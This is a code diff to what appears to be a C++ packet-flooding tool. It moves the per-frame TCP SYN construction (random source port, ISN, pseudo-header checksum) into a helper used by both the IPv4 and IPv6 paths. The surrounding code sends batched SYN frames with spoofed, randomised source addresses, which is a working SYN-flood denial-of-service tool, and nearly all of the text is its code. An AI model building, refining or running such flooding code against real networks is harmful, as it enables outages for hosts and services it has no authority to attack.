@@ -140,6 +140,16 @@ void write_syn(uint8_t* tcp, unsigned port) {
     put16(tcp + 22, 1460);
 }
 
+// The per-frame part of a SYN: a source port from the high half of `r`, the ISN, and the
+// checksum over the header and the pseudo-header's `addr_sum` (both families add the
+// protocol, 6, and the TCP length, 24).
+void finish_syn(uint8_t* tcp, uint32_t r, uint32_t isn, uint32_t addr_sum) {
+    put16(tcp, static_cast<uint16_t>(1024 + (r >> 16) % 64000));
+    put32(tcp + 4, isn);
+    put16(tcp + 16, 0);
+    put16(tcp + 16, fold(sum16(tcp, 24, addr_sum + 6 + 24)));
+}
+
 // Sends copies of `tmpl`, each given its spoofed fields by spoof(frame, rng), in batches.
 template <typename Spoof>
 int flood(int fd, const uint8_t* tmpl, size_t frame_len, uint64_t max_packets, double seconds,
@@ -281,13 +291,8 @@ int main(int argc, char** argv) {
                 for (const V6& e : exclude6) excluded |= e == src;
             } while (excluded);
             std::memcpy(fip + 8, src.data(), 16);
-            const uint32_t x = r.next();
-            put16(ftcp, static_cast<uint16_t>(1024 + (x >> 16) % 64000));
-            put32(ftcp + 4, r.next());
             // Pseudo-header (RFC 8200 8.1): addresses, upper-layer length, next header.
-            uint32_t acc = sum16(fip + 8, 32);
-            acc += 24 + 6;
-            put16(ftcp + 16, fold(sum16(ftcp, 24, acc)));
+            finish_syn(ftcp, r.next(), r.next(), sum16(fip + 8, 32));
         };
         return flood(fd, tmpl, kLen6, max_packets, seconds, spoof, rng);
     }
@@ -336,12 +341,8 @@ int main(int argc, char** argv) {
         put16(fip + 4, static_cast<uint16_t>(x));  // IP ID
         put32(fip + 12, src);
         put16(fip + 10, fold(sum16(fip, 20)));
-        put16(ftcp, static_cast<uint16_t>(1024 + (x >> 16) % 64000));
-        put32(ftcp + 4, r.next());
         // Pseudo-header (RFC 9293 3.1): addresses, protocol, TCP length.
-        uint32_t acc = sum16(fip + 12, 8);
-        acc += 6 + 24;
-        put16(ftcp + 16, fold(sum16(ftcp, 24, acc)));
+        finish_syn(ftcp, x, r.next(), sum16(fip + 12, 8));
     };
     return flood(fd, tmpl, kFrameLen, max_packets, seconds, spoof, rng);
 }
